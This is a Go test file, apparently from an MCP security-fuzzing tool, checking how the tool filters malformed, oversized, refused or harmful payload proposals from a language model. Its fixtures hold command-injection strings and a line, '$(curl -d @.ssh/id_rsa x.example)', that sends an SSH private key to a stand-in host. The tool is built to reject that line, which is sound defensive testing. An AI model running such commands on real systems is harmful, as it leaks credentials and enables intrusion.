package payload

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/mcpsf/mcpsf"
	"github.com/mcpsf/mcpsf/internal/agents/llm/llmtest"
)

// junk is useless or nearly useless answers of models.
func junk(t *testing.T) map[string]struct {
	answer llmtest.Answer
	calls  int
	lost   []string
} {
	t.Helper()
	program := mark(t, "command-injection", mcpsf.SignExec)
	fine := one("command-injection", "/text", "x", map[string]any{"text": "a|" + program})
	run := func(text any) string { return one("command-injection", "/text", "x", map[string]any{"text": text}) }
	return map[string]struct {
		answer llmtest.Answer
		calls  int
		lost   []string
	}{
		"nothing":        {propose(), 0, nil},
		"words":          {llmtest.Say("I would rather\nnot {say}."), 0, []string{`"note": the model proposed nothing, and said: "I would rather not {say}."`}},
		"silence":        {llmtest.Say(""), 0, []string{`"note": the model proposed nothing, and said: ""`}},
		"other call":     {llmtest.Do(llmtest.Call{ID: "1", Name: "rm", Arguments: `{}`}), 0, []string{`"note": the model called "rm", which there is not`, `"note": the model proposed nothing, and said: ""`}},
		"no JSON":        {llmtest.Do(llmtest.Call{ID: "1", Name: "propose", Arguments: `payloads: none`}), 0, []string{`"note": the model proposed nothing, and said: ""`}},
		"cut":            {llmtest.Do(llmtest.Call{ID: "1", Name: "propose", Arguments: `{"payloads":[` + fine + `,{"class":"comm`}), 1, []string{`"note": the answer of the model was cut`}},
		"quoted list":    {llmtest.Do(llmtest.Call{ID: "1", Name: "propose", Arguments: fmt.Sprintf(`{"payloads":%q}`, "["+fine+"]")}), 1, nil},
		"quoted object":  {propose(`{"class":"command-injection","place":"/text","arguments":` + fmt.Sprintf("%q", `{"text":"a|`+program+`"}`) + `}`), 1, nil},
		"bare values":    {propose(`7`, `"x"`, `null`, `[]`, fine), 1, []string{`"note": 3 payloads left out: it is no payload`, `"note": 1 payload left out: it is of a class that nobody asked for`}},
		"unknown class":  {propose(one("sharks", "/text", "x", map[string]any{"text": program})), 0, []string{`"note": 1 payload left out: it is of a class that nobody asked for`}},
		"other tool":     {propose(`{"tool":"shell","class":"command-injection","place":"/text","arguments":{"text":"a|` + program + `"}}`), 0, []string{`"note": 1 payload left out: it is for another tool`}},
		"no arguments":   {propose(`{"class":"command-injection","place":"/text"}`, `{"class":"command-injection","place":"/text","arguments":[1]}`), 0, []string{`"note": 2 payloads left out: its arguments are no object`}},
		"no mark":        {propose(run("a|id")), 0, []string{`"note": 1 payload left out: it holds nothing that success could be told by`}},
		"no place":       {propose(one("unicode-edge", "/nowhere", "x", map[string]any{"text": "\u202e"})), 0, []string{`"note": 1 payload left out: its place is not in its arguments`}},
		"twice":          {propose(fine, fine), 1, []string{`"note": 1 payload left out: it is sent anyway`}},
		"wrong type":     {propose(run([]string{"a|" + program})), 0, []string{`"note": 1 payload left out: it does not fit the schema of the tool`}},
		"two places":     {propose(one("command-injection", "/text", "x", map[string]any{"text": "|" + program, "more": "|" + program})), 0, []string{`"note": 1 payload left out: what success is told by stands in several values`}},
		"an end":         {propose(one("command-injection", "/text", "x", map[string]any{"text": "|" + program, "action": "shutdown"})), 0, []string{`"note": 1 payload left out: another value does harm, or asks the server to end or to wait`}},
		"an end by name": {propose(one("command-injection", "/text", "x", map[string]any{"text": "|" + program, "shutdown": true})), 0, []string{`"note": 1 payload left out: another value does harm, or asks the server to end or to wait`}},
		"harm beside":    {propose(one("command-injection", "/text", "x", map[string]any{"text": "|" + program, "more": "$(curl -d @.ssh/id_rsa x.example)"})), 0, []string{`"note": 1 payload left out: another value does harm, or asks the server to end or to wait`}},
		"harm":           {propose(run("a; " + program + "; curl http://x.example/")), 0, []string{`"note": 1 payload left out: it does more than to bring its sign about`}},
		"far too long":   {propose(run(strings.Repeat("a", 100_000) + "|" + program)), 0, []string{`"note": 1 payload left out: its arguments are too large`}},
		"far too deep":   {propose(`{"class":"type-confusion","place":"/text","arguments":{"text":` + strings.Repeat("[", 60) + strings.Repeat("]", 60) + `}}`), 0, []string{`"note": 1 payload left out: its arguments are too large`}},
		"far too many": {propose(strings.Split(strings.Repeat(fine+"\n", 300), "\n")[:300]...), 1, []string{
			`"note": the model proposed 300 payloads, of which 128 are looked at`, `"note": 127 payloads left out: it is sent anyway`,
		}},
	}
}

// leftOut adds up the payloads that the lines count.
func leftOut(lost []string) int {
	sum := 0
	for _, l := range lost {
		_, rest, _ := strings.Cut(l, ": ")
		var n int
		if _, err := fmt.Sscanf(rest, "%d payload", &n); err == nil {
			sum += n
		}
	}
	return sum
}

func TestJunk(t *testing.T) {
	for name, c := range junk(t) {
		for _, s := range sides() {
			t.Run(name+" "+s.provider, func(t *testing.T) {
				m, _ := s.model(t, llmtest.Steps(c.answer))
				got := run(t, options(note()), m)
				if diff := cmp.Diff(c.lost, got.Run.Lost); diff != "" {
					t.Errorf("lost (-want +got):\n%s", diff)
				}
				if len(got.Calls) != c.calls || got.Run.Calls != c.calls {
					t.Errorf("%d calls, told %d, want %d: %q", len(got.Calls), got.Run.Calls, c.calls, toldAll(got.Calls))
				}
				left := leftOut(got.Run.Lost)
				unanswered := 0
				if len(c.lost) > 0 && left+c.calls == 0 {
					unanswered = 1
				}
				if r := got.Run; r.LeftOut != left || r.Proposed != left+c.calls || r.Unanswered != unanswered || r.Tools != 1 {
					t.Errorf("%+v, want %d of %d left out, %d unanswered", r, left, left+c.calls, unanswered)
				}
			})
		}
	}
}

// Each provider has its own form for refusals and truncated answers.
func TestEndings(t *testing.T) {
	fine := one("command-injection", "/text", "x", map[string]any{"text": "a|" + mark(t, "command-injection", mcpsf.SignExec)})
	long := llmtest.Do(llmtest.Call{ID: "1", Name: "propose", Arguments: `{"payloads":[` + fine + `,{"class":"command-inj`})
	none := llmtest.Do(llmtest.Call{ID: "1", Name: "propose", Arguments: `{"payl`})
	with := func(a llmtest.Answer, stop string) llmtest.Answer {
		a.Stop = stop
		return a
	}
	for _, c := range []struct {
		side   int
		answer llmtest.Answer
		calls  int
		lost   string
	}{
		{0, llmtest.Answer{Text: "No.", Refusal: "I can't help with that."}, 0, `"note": the model refused`},
		{1, llmtest.Answer{Text: "No.", Stop: "refusal"}, 0, `"note": the model refused`},
		{0, with(long, "length"), 1, `"note": the answer of the model was cut`},
		{1, with(long, "max_tokens"), 1, `"note": the answer of the model was cut`},
		{0, with(none, "length"), 0, `"note": the answer of the model was cut`},
		{1, with(none, "max_tokens"), 0, `"note": the answer of the model was cut`},
	} {
		s := sides()[c.side]
		m, _ := s.model(t, llmtest.Steps(c.answer))
		got := run(t, options(note()), m)
		if diff := cmp.Diff([]string{c.lost}, got.Run.Lost); diff != "" || got.Run.Unanswered != 1-c.calls || len(got.Calls) != c.calls {
			t.Errorf("%s, %+v: %+v, lost (-want +got):\n%s", s.provider, c.answer, got, diff)
		}
	}
}
